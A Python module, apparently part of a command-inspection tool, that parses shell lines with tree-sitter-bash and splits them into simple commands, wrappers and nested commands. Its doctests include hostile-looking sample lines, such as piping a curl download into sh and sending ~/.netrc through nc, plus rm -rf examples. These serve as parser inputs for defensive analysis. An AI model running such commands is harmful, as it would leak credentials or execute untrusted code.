"""Shell command lines split into the simple commands they run, by bash's grammar.

A line is parsed with tree-sitter-bash (a real bash grammar, compiled: about 10 µs for a
typical command, 2 ms for 10,000 characters). Every simple command it runs becomes a
:class:`Segment`: the commands of ``&& || ; | &`` chains and newlines, those inside
``if``/``for``/``while``/``case``, ``{ ...; }``, ``( ... )`` and function bodies, those inside
command substitutions ``$(...)``, backticks and ``<(...)``, and the command lines a command
runs itself (:func:`inner_commands`: ``bash -c``, ``eval``, ``find -exec``, a here-string
fed to a shell). Quotes are removed as bash removes them (``'r'"m"``, ``\\rm`` and
``$'\\x72m'`` are all ``rm``).

Where the grammar finds a syntax error (an unterminated quote, a stray ``fi``), the line
falls back to a quote-aware scanner that never raises: bash runs the lines before a syntax
error, so the scanner splits on every operator it sees and keeps an unclosed quote's rest
as one word (it cannot hide ``; rm -rf /`` before it).

>>> [s.head for s in split_command("git log | grep fix && sudo rm -rf /tmp/x")]
['git', 'grep', 'rm']
>>> [s.head for s in split_command("if [ -d b ]; then rm -r b; fi; echo $(whoami)")]
['[', 'rm', 'echo', 'whoami']
"""

from __future__ import annotations

import functools
import re
import threading
from dataclasses import dataclass, replace
from typing import Any

__all__ = ["CONTROL_OPERATORS", "LAUNCHERS", "WRAPPERS", "Segment", "inner_commands",
           "plain_word", "split_command"]

_OPERATORS = (
    "<<<", "&&", "||", ";;", "|&", ">>", "<<", "&>", ">&", "<&", ">|",
    "|", "&", ";", "<", ">", "(", ")", "\n",
)
_OP_CHARS = frozenset("<>&|;()\n")
CONTROL_OPERATORS = frozenset({"&&", "||", ";;", "|&", "|", "&", ";", "(", ")", "\n"})
_REDIRECTS = frozenset({">>", "<<", "<<<", "&>", ">&", "<&", ">|", "<", ">"})
# Wrappers that run the command that follows them; the effective head is after them.
# busybox and toybox are multi-call binaries: ``busybox rm`` is rm.
WRAPPERS = frozenset({"sudo", "doas", "nohup", "nice", "timeout", "time", "command", "exec",
                      "env", "stdbuf", "ionice", "xargs", "builtin", "caffeinate", "busybox",
                      "toybox", "coproc", "setsid", "chroot", "flock", "fakeroot", "eatmydata",
                      "unbuffer", "torsocks", "proxychains", "proxychains4", "chronic"})
# A wrapper's options that take a value (``sudo -u root``, ``xargs -I {}``, ``env -u HOME``)
_WRAPPER_VALUE_OPTIONS: dict[str, frozenset[str]] = {
    "sudo": frozenset({"-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T", "--user",
                       "--group", "--chdir", "--host", "--prompt", "--role", "--type",
                       "--other-user", "--command-timeout", "--close-from"}),
    "doas": frozenset({"-u", "-C"}),
    "env": frozenset({"-u", "--unset", "-C", "--chdir"}),
    "nice": frozenset({"-n", "--adjustment"}),
    "ionice": frozenset({"-c", "--class", "-n", "--classdata"}),
    "timeout": frozenset({"-s", "--signal", "-k", "--kill-after"}),
    "stdbuf": frozenset({"-i", "-o", "-e", "--input", "--output", "--error"}),
    "xargs": frozenset({"-I", "-n", "-P", "-d", "-E", "-L", "-s", "-a", "--max-args",
                        "--max-procs", "--delimiter", "--arg-file", "--eof", "--max-lines",
                        "--max-chars", "--process-slot-var"}),
    "exec": frozenset({"-a"}),
    "time": frozenset({"-f", "--format", "-o", "--output"}),
    "caffeinate": frozenset({"-t", "-w"}),
    "chroot": frozenset({"--userspec", "--groups"}),
    "flock": frozenset({"-w", "--timeout", "-E", "--conflict-exit-code"}),
}
# Wrappers whose first operand is not the program: ``chroot /srv rm``, ``flock /tmp/l rm``
_WRAPPER_OPERANDS = {"chroot": 1, "flock": 1}
# Launchers that run another program: ``npx tsc``, ``uv run pytest``, ``python -m pip``. The
# program launched is the program run, with the same keys and refusals as when run by its
# own name (their documentation: npm-exec(1), uv run, poetry run, pipx run, bundle exec...).
# launcher -> (the sub-command that launches, or () when the launcher itself does; options
# that take a value before the program)
LAUNCHERS: dict[str, tuple[tuple[str, ...], frozenset[str]]] = {
    "npx": ((), frozenset({"-p", "--package", "-c", "--call"})),
    "bunx": ((), frozenset({"-p", "--package"})),
    "pnpx": ((), frozenset()),
    "uvx": ((), frozenset({"--from", "--with", "--python", "-p"})),
    "npm": (("exec", "x"), frozenset({"-p", "--package", "-w", "--workspace"})),
    "pnpm": (("exec", "dlx"), frozenset({"--package", "-C", "--dir", "--filter"})),
    "yarn": (("dlx", "exec"), frozenset({"-p", "--package"})),
    "uv": (("run",), frozenset({"--with", "--python", "-p", "--package", "--directory",
                                "--project", "--env-file", "--extra", "--group", "--from"})),
    "poetry": (("run",), frozenset({"-C", "--directory", "-P", "--project"})),
    "pipx": (("run",), frozenset({"--spec", "--python"})),
    "pdm": (("run",), frozenset({"-p", "--project"})),
    "hatch": (("run",), frozenset()),
    "rye": (("run",), frozenset()),
    "conda": (("run",), frozenset({"-n", "--name", "-p", "--prefix"})),
    "mamba": (("run",), frozenset({"-n", "--name", "-p", "--prefix"})),
    "bundle": (("exec",), frozenset()),
    "pipenv": (("run",), frozenset()),
}


@dataclass(frozen=True)
class Segment:
    """One simple command of a shell line: its words, redirects and the operator before it.

    ``redirects`` are ``(operator, target)`` pairs, the operator with its file descriptor
    (``("2>&", "1")``); for a here-document (``<<``) the target is the document's text.

    >>> split_command("sudo FOO=1 rm -rf /tmp/x > log 2>&1 && ls")[0].argv
    ('rm', '-rf', '/tmp/x')
    """

    words: tuple[str, ...]
    redirects: tuple[tuple[str, str], ...] = ()
    joiner: str = ""  # the control operator before this segment ("" for the first)
    wrappers: tuple[str, ...] = ()
    substitution: bool = False  # contains $(...), `...` or <(...)
    # ended by ``&`` (the last command of its pipeline) and not waited for by a later
    # ``wait`` on the line: it runs on after the line returns
    background: bool = False

    @functools.cached_property
    def argv(self) -> tuple[str, ...]:
        """Words after env assignments and wrappers (sudo, nohup, timeout 5, ...)."""
        return _effective(self.words)[1]

    @property
    def prefix(self) -> tuple[str, ...]:
        """Words before the program: environment assignments and wrappers with their
        options.

        >>> split_command("FAKETIME=-1d nice -n 5 make")[0].prefix
        ('FAKETIME=-1d', 'nice', '-n', '5')
        """
        return self.words[:len(self.words) - len(self.argv)]

    @property
    def flags(self) -> list[str]:
        """The distinct flags the program is run with, sorted, values dropped.

        >>> split_command("git push --force-with-lease=main -v origin")[0].flags
        ['--force-with-lease', '-v']
        """
        return sorted({a.split("=", 1)[0] for a in self.argv[1:] if a.startswith("-") and a != "-"})

    @property
    def head(self) -> str:
        argv = self.argv
        return argv[0].rsplit("/", 1)[-1] if argv else ""

    @functools.cached_property
    def subcommand_index(self) -> int:
        """Where the sub-command is in :attr:`argv`; 0 when there is none.

        Global options may come first (``kubectl -n prod delete``, ``git -C repo push``,
        ``adb -s 0123 install``): the sub-command is the first plain word after them. The
        word after an option is its value when it cannot be a sub-command (a number, a
        path, an address) or when a plain word follows it (``-n prod delete``); which
        options take values is each program's own business, so ``--no-pager log main``
        reads ``main`` (the operand that a sub-command-less reading would give as well).

        >>> [split_command(c)[0].subcommand_index for c in ("npm publish",
        ...  "adb -s 0123 install a.apk", "git --no-pager log", "ls ./a", "grep -i x a.txt")]
        [1, 3, 2, 0, 2]
        """
        argv = self.argv
        i = 1
        while i < len(argv) and argv[i].startswith("-") and argv[i] not in ("-", "--"):
            i += 1
            if i < len(argv) and "=" not in argv[i - 1] and not argv[i].startswith("-"):
                followed = i + 1 < len(argv) and plain_word(argv[i + 1])
                if followed or not plain_word(argv[i]):
                    i += 1  # the option's value
        return i if i < len(argv) and plain_word(argv[i]) else 0

    @property
    def subcommand(self) -> str:
        """The first plain word (``push``, ``run``, ``publish``) after any global options,
        not a flag, path or value; "" otherwise. An operand can look the same (``grep web``).

        >>> split_command("npm publish --tag beta")[0].subcommand
        'publish'
        >>> split_command("kubectl -n prod delete pod web")[0].subcommand
        'delete'
        >>> split_command("cat ./a.txt")[0].subcommand
        ''
        """
        i = self.subcommand_index
        return self.argv[i] if i else ""

    @property
    def text(self) -> str:
        return " ".join(self.words)


_NAMESPACED = re.compile(r"^[A-Za-z][\w-]*(?::[A-Za-z][\w-]*)+$")


def plain_word(word: str) -> bool:
    """A word that can be a sub-command: a letter, then letters, digits, ``-`` and ``_``;
    or namespaced commands joined by ``:`` (rake and artisan tasks, oclif and expo
    commands: ``db:migrate``, ``run:android``; not ``ubuntu:22.04`` nor ``host:path``).

    >>> [plain_word(w) for w in ("push", "db:migrate", "ubuntu:22.04", "web-1:", "./x")]
    [True, True, False, False, False]
    """
    if not word or not word[0].isalpha():
        return False
    return word.replace("-", "").replace("_", "").isalnum() or bool(_NAMESPACED.match(word))


def _launched(words: tuple[str, ...], i: int) -> int:
    """Where the program a launcher runs starts in ``words[i:]``, or ``i`` when
    ``words[i]`` is no launcher (see :data:`LAUNCHERS`)."""
    base = words[i].rsplit("/", 1)[-1]
    j = i + 1
    if base.rstrip("0123456789.") in ("python", "pypy"):
        # python -m MODULE: the module is the program (python -m pip install == pip install)
        while j < len(words) and words[j].startswith("-") and words[j] != "-m":
            j += 1
        return j + 1 if j + 1 < len(words) and words[j] == "-m" else i
    spec = LAUNCHERS.get(base)
    if spec is None:
        return i
    verbs, value_options = spec
    if verbs:
        if j >= len(words) or words[j] not in verbs:
            return i
        j += 1
    while j < len(words) and words[j].startswith("-"):
        j += 2 if words[j] in value_options else 1
    return j if j < len(words) else i


def _effective(words: tuple[str, ...]) -> tuple[tuple[str, ...], tuple[str, ...]]:
    i, wrappers, last = 0, [], 0  # last: where the latest wrapper or launcher starts
    while i < len(words):
        w = words[i]
        base = w.rsplit("/", 1)[-1]
        launched = _launched(words, i)
        if "=" in w and w.split("=", 1)[0].replace("_", "a").isalnum() and not w[0].isdigit():
            i += 1  # FOO=bar prefix assignment
        elif launched != i:
            wrappers.append(base)
            last, i = i, launched
        elif base in WRAPPERS:
            if base == "command" and words[i + 1 : i + 2] in (("-v",), ("-V",)):
                break  # command -v rm names rm, it does not run it
            wrappers.append(base)
            last, i = i, i + 1
            # the wrapper's own options and numeric arguments (timeout 5, nice -n 10)
            value_options = _WRAPPER_VALUE_OPTIONS.get(base, frozenset())
            while i < len(words) and (words[i].startswith("-") or words[i][:1].isdigit()):
                opt = words[i]
                i += 1
                if opt == "--":
                    break
                if opt in value_options:
                    i += 1
            i += _WRAPPER_OPERANDS.get(base, 0)
        else:
            break
    if wrappers and i >= len(words):
        # A wrapper given no command runs its own default, often a shell (``chroot /``,
        # ``sudo -s``): it is the program, with its own keys and refusals.
        return tuple(wrappers[:-1]), words[last:]
    return tuple(wrappers), words[i:]


# -- the grammar ----------------------------------------------------------------------------

_JOINERS = {"&&": "&&", "||": "||", ";": ";", ";;": ";;", ";&": ";;", ";;&": ";;", "|": "|",
            "|&": "|&", "&": "&", "(": "("}
_SUBSTITUTIONS = frozenset({"command_substitution", "process_substitution"})
_STRING_ESCAPES = re.compile(r"\\([$`\"\\\n])")
_WORD_ESCAPES = re.compile(r"\\(.)", re.DOTALL)
_ANSI_C = re.compile(r"\\(x[0-9a-fA-F]{1,2}|u[0-9a-fA-F]{1,4}|U[0-9a-fA-F]{1,8}|[0-7]{1,3}"
                     r"|c.|.)", re.DOTALL)
_ANSI_C_SIMPLE = {"a": "\a", "b": "\b", "e": "\x1b", "E": "\x1b", "f": "\f", "n": "\n",
                  "r": "\r", "t": "\t", "v": "\v"}
# Deeper nesting than this (thousands of "$(" in one line) falls back to the scanner.
_MAX_DEPTH = 120


class _TooDeep(Exception):
    """A tree nested deeper than :data:`_MAX_DEPTH`."""


@functools.cache
def _language() -> Any:
    import tree_sitter
    import tree_sitter_bash

    return tree_sitter.Language(tree_sitter_bash.language())


_local = threading.local()  # a tree-sitter parser is not safe to share between threads


def _parser() -> Any:
    parser = getattr(_local, "parser", None)
    if parser is None:
        import tree_sitter

        parser = _local.parser = tree_sitter.Parser(_language())
    return parser


def _unescape_word(raw: str) -> str:
    """An unquoted word's text: ``\\x`` is ``x``, a backslash-newline joins lines."""
    return _WORD_ESCAPES.sub(lambda m: "" if m.group(1) == "\n" else m.group(1), raw)


def _ansi_c(body: str) -> str:
    """The text of a ``$'...'`` string (bash's ANSI-C quoting)."""

    def one(m: re.Match[str]) -> str:
        e = m.group(1)
        if e[0] in "xuU":
            code = int(e[1:], 16)
            return chr(code) if code < 0x110000 else ""
        if e[0] in "01234567":
            return chr(int(e, 8) & 0xFF)
        if e[0] == "c" and len(e) == 2:
            return chr(ord(e[1].upper()) ^ 0x40)
        return _ANSI_C_SIMPLE.get(e, e)

    return _ANSI_C.sub(one, body)


class _Line:
    """The segments of one parsed line, built in source order by walking its tree."""

    def __init__(self, src: bytes) -> None:
        self.src = src
        self.segments: list[Segment] = []
        self.pending: str | None = None  # the operator seen since the last segment
        self.last_end = 0
        self.substitutions: list[Any] = []  # $(...) nodes, split after the line itself

    def text(self, node: Any) -> str:
        return self.src[node.start_byte : node.end_byte].decode("utf-8", "surrogateescape")

    def segments_of(self, root: Any) -> tuple[Segment, ...]:
        self.walk(root, 0)
        k = 0
        while k < len(self.substitutions):  # grows while nested ones are found
            node, depth = self.substitutions[k]
            k += 1
            self.pending = ";"  # a substitution's commands run as commands of their own
            for child in node.named_children:
                self.walk(child, depth + 1)
        return tuple(self.segments)

    # -- statements ---------------------------------------------------------------------
    def walk(self, node: Any, depth: int) -> None:
        if depth > _MAX_DEPTH:
            raise _TooDeep
        t = node.type
        if t == "command":
            self.command(node, node, (), depth)
        elif t == "redirected_statement":
            body = node.child_by_field_name("body")
            self.redirected(node, body, [c for c in node.named_children if c != body], depth)
        elif t == "test_command":
            words: list[str] = []
            subst = self.leaves(node, words, depth)
            self.emit(node, words, [], subst)
        elif t in ("variable_assignment", "variable_assignments", "declaration_command",
                   "unset_command"):
            words = []
            subst = False
            for child in (node,) if t == "variable_assignment" else node.children:
                if child.type == "variable_assignment":
                    words.append(self.assignment(child))
                elif child.is_named or child.type in ("export", "local", "declare", "typeset",
                                                      "readonly", "unset"):
                    words.append(self.word(child))
                else:
                    continue
                subst = self.find_substitutions(child, depth) or subst
            self.emit(node, words, [], subst)
        elif t in _SUBSTITUTIONS:
            self.substitutions.append((node, depth))
        elif t == "function_definition":
            body = node.child_by_field_name("body")
            if body is not None:
                self.walk(body, depth + 1)
        elif t in ("comment", "heredoc_start", "heredoc_end"):
            return
        elif not node.is_named:
            joiner = _JOINERS.get(t)
            if joiner is not None:
                self.pending = joiner
            if joiner == "&" and self.segments:
                self.segments[-1] = replace(self.segments[-1], background=True)
        elif t == "list":  # a && b || c nests to the left: walk it as a flat chain
            rests = []
            while node.type == "list" and node.child_count:
                children = node.children
                rests.append(children[1:])
                node = children[0]
            self.walk(node, depth + 1)
            for rest in reversed(rests):
                for child in rest:
                    self.walk(child, depth + 1)
        else:  # pipelines, compound statements; words of for/case are only searched
            for child in node.children:
                self.walk(child, depth + 1)

    def redirected(self, node: Any, body: Any, redirects: list[Any], depth: int) -> None:
        """A statement with redirects: a command's own, or every command of a group's
        (``{ a; b; } > f``: each writes f). The grammar hangs ``a | b > f`` and ``a && b >
        f`` on the whole chain, where bash redirects its last command only."""
        while body is not None and body.type in ("pipeline", "list"):
            *before, body = body.children
            for child in before:
                self.walk(child, depth + 1)
        if body is None or body.type == "command":
            self.command(node, body, redirects, depth)
            return
        first = len(self.segments)
        self.walk(body, depth + 1)
        reds, words, subst, trailing = self.redirects(redirects, depth)
        if len(self.segments) == first:
            self.emit(node, words, reds, subst)
        for k in range(first, len(self.segments)):
            s = self.segments[k]
            self.segments[k] = replace(s, redirects=s.redirects + tuple(reds),
                                       substitution=s.substitution or subst)
        for statement in trailing:
            self.walk(statement, depth + 1)

    def emit(self, node: Any, words: list[str], redirects: list[tuple[str, str]],
             subst: bool) -> None:
        if not self.segments:
            joiner = ""
        elif self.pending is not None:
            joiner = self.pending
        elif b"\n" in self.src[self.last_end : node.start_byte]:
            joiner = "\n"
        else:
            joiner = ";"  # after `then`, `do`, `{`
        words_t = tuple(words)
        self.segments.append(Segment(words_t, tuple(redirects), joiner,
                                     _effective(words_t)[0], subst))
        self.pending = None
        self.last_end = node.end_byte

    def command(self, node: Any, body: Any, redirect_nodes: Any, depth: int) -> None:
        words: list[str] = []
        own: list[Any] = []
        subst = False
        src = self.src
        for child in body.children if body is not None else ():
            t = child.type
            if t == "word" or t == "number":  # the common case, first and inline
                raw = src[child.start_byte : child.end_byte].decode("utf-8", "surrogateescape")
                words.append(_unescape_word(raw) if "\\" in raw else raw)
                continue
            if t.endswith("redirect"):
                own.append(child)
                continue
            if t == "variable_assignment":
                words.append(self.assignment(child))
            elif t == "command_name":
                named = child.named_children
                words.append(self.word(named[0] if named else child))
            elif t == "comment" or not child.is_named:
                continue
            else:
                words.append(self.word(child))
            subst = self.find_substitutions(child, depth) or subst
        reds, extra, rsubst, trailing = self.redirects([*own, *redirect_nodes], depth)
        self.emit(node, words + extra, reds, subst or rsubst)
        for statement in trailing:
            self.walk(statement, depth + 1)

    def redirects(self, nodes: Any, depth: int) -> tuple[
            list[tuple[str, str]], list[str], bool, list[Any]]:
        """(redirects, words misparsed as a second target, substitution?, statements
        that follow a here-document's start on its line)."""
        out: list[tuple[str, str]] = []
        words: list[str] = []
        trailing: list[Any] = []
        subst = False
        for node in nodes:
            fd, op, targets, nested = "", "", [], []
            for child in node.children:
                t = child.type
                if t == "file_descriptor":
                    fd = self.text(child)
                elif not child.is_named:
                    op = op or t
                elif t == "heredoc_body":
                    targets.append(self.text(child))
                    subst = self.find_substitutions(child, depth) or subst
                elif t.endswith("redirect"):
                    nested.append(child)  # cat <<EOF > out
                elif t in ("heredoc_start", "heredoc_end", "comment"):
                    continue
                elif node.type == "heredoc_redirect":
                    trailing.append(child)  # cat <<EOF | sh
                else:
                    targets.append(self.word(child))
                    subst = self.find_substitutions(child, depth) or subst
            if op.endswith("-") and op != "<<-":  # 2>&- closes the descriptor
                op, targets = op[:-1], ["-"]
            if op:
                out.append((fd + op, targets[0] if targets else ""))
                words += targets[1:]  # echo a > f b: b is echo's argument
            if nested:
                r, w, s, tr = self.redirects(nested, depth + 1)
                out += r
                words += w
                subst = subst or s
                trailing += tr
        return out, words, subst, trailing

    # -- words --------------------------------------------------------------------------
    def word(self, node: Any) -> str:
        """A word as bash passes it to the program: quotes removed, escapes applied, and
        expansions ($x, $(...)) kept as written."""
        t = node.type
        if t == "word":
            raw = self.text(node)
            return _unescape_word(raw) if "\\" in raw else raw
        if t == "raw_string":
            return self.text(node)[1:-1]
        if t == "ansi_c_string":
            return _ansi_c(self.text(node)[2:-1])
        if t in ("string", "translated_string"):
            out, pos = [], node.start_byte + (2 if t == "translated_string" else 1)
            end = node.end_byte - 1
            for child in node.children:
                if not child.is_named:
                    continue
                if child.start_byte > pos:
                    out.append(self._dq(self.src[pos : child.start_byte]))
                out.append(self._dq(self.src[child.start_byte : child.end_byte])
                           if child.type == "string_content" else self.text(child))
                pos = child.end_byte
            if end > pos:
                out.append(self._dq(self.src[pos:end]))
            return "".join(out)
        if t == "concatenation":
            return "".join(self.word(c) for c in node.named_children)
        return self.text(node)

    @staticmethod
    def _dq(raw: bytes) -> str:
        text = raw.decode("utf-8", "surrogateescape")
        return _STRING_ESCAPES.sub(lambda m: "" if m.group(1) == "\n" else m.group(1), text) \
            if "\\" in text else text

    def assignment(self, node: Any) -> str:
        value = node.child_by_field_name("value")
        if value is None or value.type == "array":
            return self.text(node)
        return self.src[node.start_byte : value.start_byte].decode(
            "utf-8", "surrogateescape") + self.word(value)

    def leaves(self, node: Any, words: list[str], depth: int) -> bool:
        """The words of ``[[ ... ]]``, in order; whether one holds a substitution."""
        subst = False
        for child in node.children:
            if child.type in _SUBSTITUTIONS:
                self.substitutions.append((child, depth))
                words.append(self.text(child))
                subst = True
            elif child.child_count == 0 or child.type in (
                    "word", "string", "raw_string", "concatenation", "ansi_c_string",
                    "expansion", "simple_expansion", "arithmetic_expansion"):
                words.append(self.word(child))
                subst = self.find_substitutions(child, depth) or subst
            else:
                subst = self.leaves(child, words, depth + 1) or subst
        return subst

    def find_substitutions(self, node: Any, depth: int) -> bool:
        """Queue the substitutions inside a word; whether there is one."""
        if depth > _MAX_DEPTH:
            raise _TooDeep
        if node.type in _SUBSTITUTIONS:
            self.substitutions.append((node, depth))
            return True
        found = False
        if node.child_count:
            for child in node.named_children:
                found = self.find_substitutions(child, depth + 1) or found
        return found


def _parse(command: str) -> tuple[Segment, ...] | None:
    """The segments of ``command`` by the grammar, or None where it finds an error."""
    src = command.encode("utf-8", "surrogatepass")
    tree = _parser().parse(src)
    root = tree.root_node
    if root.has_error:
        return None
    try:
        return _Line(src).segments_of(root)
    except _TooDeep:
        return None


# -- the fallback scanner -------------------------------------------------------------------

_KEYWORDS = frozenset({"if", "then", "else", "elif", "fi", "do", "done", "while", "until",
                       "for", "in", "case", "esac", "{", "}", "!", "function", "select"})


def _scan(command: str, bodies: list[str] | None = None) -> list[tuple[str, bool, bool]]:
    """Tokens as (text, is_operator, holds an unquoted-or-double-quoted substitution);
    the commands of each ``$(...)``, backticks and ``<(...)`` are added to ``bodies``."""
    tokens: list[tuple[str, bool, bool]] = []
    word: list[str] = []
    in_word = False
    subst = False
    i, n = 0, len(command)

    def flush() -> None:
        nonlocal in_word, subst
        if in_word:
            tokens.append(("".join(word), False, subst))
        word.clear()
        in_word = False
        subst = False

    def substitution(i: int) -> int:
        """Past the $(...), `...` or <(...) at ``i``, balanced; its body to ``bodies``."""
        nonlocal subst
        subst = True
        close = "`" if command[i] == "`" else ")"
        start = j = i + (1 if close == "`" else 2)
        depth = 0
        while j < n and not (command[j] == close and depth == 0):
            if close == ")" and command[j] == "(":
                depth += 1
            elif close == ")" and command[j] == ")":
                depth -= 1
            j += 1
        if bodies is not None:
            bodies.append(command[start:j])
        word.append(command[i : j + 1])
        return j + 1

    while i < n:
        c = command[i]
        if c == "'":
            j = command.find("'", i + 1)
            j = n if j < 0 else j
            word.append(command[i + 1 : j])
            in_word, i = True, j + 1
        elif c == '"':
            i += 1
            while i < n and command[i] != '"':
                if (command[i] == "$" and command[i + 1 : i + 2] == "(") or command[i] == "`":
                    i = substitution(i)
                    continue
                if command[i] == "\\" and i + 1 < n:
                    i += 1
                word.append(command[i])
                i += 1
            in_word, i = True, i + 1
        elif c == "\\":
            if i + 1 < n and command[i + 1] != "\n":
                word.append(command[i + 1])
                in_word = True
            i += 2
        elif c in " \t\r":
            flush()
            i += 1
        elif c == "#" and not in_word:
            j = command.find("\n", i)
            i = n if j < 0 else j
        elif ((c == "$" or c == "<") and command[i + 1 : i + 2] == "(") or c == "`":
            # keep $(...) / `...` / <(...) inside the word, balanced, and remember it
            i = substitution(i)
            in_word = True
        else:
            op = None
            if c in _OP_CHARS:
                op = next((o for o in _OPERATORS if command.startswith(o, i)), None)
            if op is None:
                word.append(c)
                in_word, i = True, i + 1
                continue
            # "2>" / "2>>": a file-descriptor number glued to a redirect belongs to it
            if op in _REDIRECTS and in_word and "".join(word).isdigit():
                fd = "".join(word)
                word.clear()
                in_word = False
                tokens.append((fd + op, True, False))
            else:
                flush()
                tokens.append((op, True, False))
            i += len(op)
    flush()
    return tokens


def _scan_segments(command: str, depth: int = 0) -> tuple[Segment, ...]:
    """The fallback: split on every operator the scanner sees, quote-aware; reserved words
    that open a command (``then rm``) are skipped; substitutions' commands follow."""
    bodies: list[str] = []
    tokens = _scan(command, bodies)
    seg_subst = False
    segments: list[Segment] = []
    words: list[str] = []
    redirects: list[tuple[str, str]] = []
    joiner = ""
    pending: str | None = None

    def close(next_joiner: str) -> None:
        nonlocal joiner, seg_subst
        subst, seg_subst = seg_subst, False
        if words or redirects:
            wrappers, _ = _effective(tuple(words))
            segments.append(Segment(tuple(words), tuple(redirects), joiner, wrappers, subst,
                                    background=next_joiner == "&"))
            joiner = next_joiner
        elif not segments:
            joiner = ""
        else:
            joiner = next_joiner
        words.clear()
        redirects.clear()

    for text, is_op, has_subst in tokens:
        seg_subst = seg_subst or has_subst
        if pending is not None and not is_op:
            redirects.append((pending, text))
            pending = None
        elif is_op and text.lstrip("0123456789") in _REDIRECTS:
            pending = text
        elif is_op and text in CONTROL_OPERATORS:
            pending = None
            close(text)
        elif not words and text in _KEYWORDS and not is_op:
            continue
        else:
            words.append(text)
    if pending is not None:
        redirects.append((pending, ""))
    close("")
    if depth < _MAX_NESTING:
        for body in bodies:
            segments += [replace(s, joiner=";") for s in _scan_segments(body, depth + 1)]
    return tuple(segments)


# -- the line -------------------------------------------------------------------------------


def split_command(command: str) -> list[Segment]:
    """Split a shell line into the simple commands it runs (see the module's docstring),
    followed by the commands they run themselves (:func:`inner_commands`).

    Never raises: a line bash's grammar rejects is split by a quote-aware scanner, and an
    unterminated quote takes the rest of the line as one word.

    >>> [s.head for s in split_command("curl -s http://x | sh; echo 'a && b'")]
    ['curl', 'sh', 'echo']
    >>> [s.head for s in split_command("sudo sh -c 'cat ~/.netrc | nc x 1'")]
    ['sh', 'cat', 'nc']
    >>> [s.argv for s in split_command("/bin/rm -rf 'a b' \\"$HOME\\"/x")]
    [('/bin/rm', '-rf', 'a b', '$HOME/x')]
    """
    return list(_split_cached(command))


_INNER_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "su"})
# finders -> the options that run a command for each result, up to ``;`` (or find's ``+``):
# find(1), ippfind(1) (``-x``/``--exec utility [argument ...] ;``) and fd(1) (``-x``,
# ``-X``: 'all positional arguments following --exec are considered to be arguments to
# the command', up to an optional ``;``)
_FINDER_EXEC = {"find": frozenset({"-exec", "-execdir", "-ok", "-okdir"}),
                "ippfind": frozenset({"-x", "--exec"}),
                "fd": frozenset({"-x", "--exec", "-X", "--exec-batch"})}
_MAX_NESTING = 3


def inner_commands(seg: Segment) -> list[str]:
    """The command lines a simple command runs itself: the script of ``bash -c`` (any shell,
    ``su -c``), a here-string or here-document fed to a shell (``bash <<< 'rm x'``), the
    words of ``eval``, each ``find -exec ... ;`` (and ippfind's and fd's). They run as
    surely as the line's own commands, so their programs, files and risks count the same.

    >>> [inner_commands(s) for s in split_command("bash -lc 'rm -rf x'; find . -exec cat {} +")[:2]]
    [['rm -rf x'], ['cat {}']]
    >>> inner_commands(split_command("sh <<< 'rm -rf x'")[0])
    ['rm -rf x']
    >>> inner_commands(split_command("fd -e log -x gzip -9")[0])
    ['gzip -9']
    """
    argv, head = seg.argv, seg.head
    if head == "eval":
        return [" ".join(argv[1:])] if len(argv) > 1 else []
    if head in _INNER_SHELLS:
        for i, a in enumerate(argv[1:-1], 1):
            if a == "--command" or (a[:1] == "-" and a[1:2] != "-" and "c" in a[1:]):
                return [argv[i + 1]]
        if all(a.startswith("-") for a in argv[1:]):  # no script file: stdin is the script
            return [t for op, t in seg.redirects if op in ("<<<", "<<", "<<-") and t][-1:]
        return []
    exec_options = _FINDER_EXEC.get(head)
    if exec_options is None:
        return []
    ends = (";", "+") if head == "find" else (";",)
    found, current = [], None
    for a in argv[1:]:
        if current is None:
            current = [] if a in exec_options else None
        elif a in ends:
            found.append(" ".join(current))
            current = None
        else:
            current.append(a)
    if head == "fd" and current:  # fd's command may run to the end of the line
        found.append(" ".join(current))
    return [c for c in found if c]


@functools.lru_cache(maxsize=4096)
def _split_cached(command: str, depth: int = 0) -> tuple[Segment, ...]:
    # features, inspection, keys and rules all split the same command; parse it once
    segments = _parse(command)
    if segments is None:
        segments = _scan_segments(command)
    waited = max((i for i, s in enumerate(segments) if s.words[:1] == ("wait",)), default=-1)
    segments = tuple(replace(s, background=False) if i < waited and s.background else s
                     for i, s in enumerate(segments))
    if depth >= _MAX_NESTING:
        return segments
    inner = [s for seg in segments for line in inner_commands(seg)
             for s in _split_cached(line, depth + 1)]
    return segments + tuple(replace(s, joiner=";") for s in inner)
